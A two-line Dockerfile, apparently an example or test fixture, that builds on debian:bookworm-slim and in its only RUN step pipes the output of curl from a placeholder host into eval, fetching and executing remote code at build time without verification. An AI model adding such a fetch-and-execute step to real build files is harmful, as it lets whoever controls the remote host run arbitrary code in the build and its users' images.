FROM debian:bookworm-slim
RUN eval "$(curl https://example.com/i)"
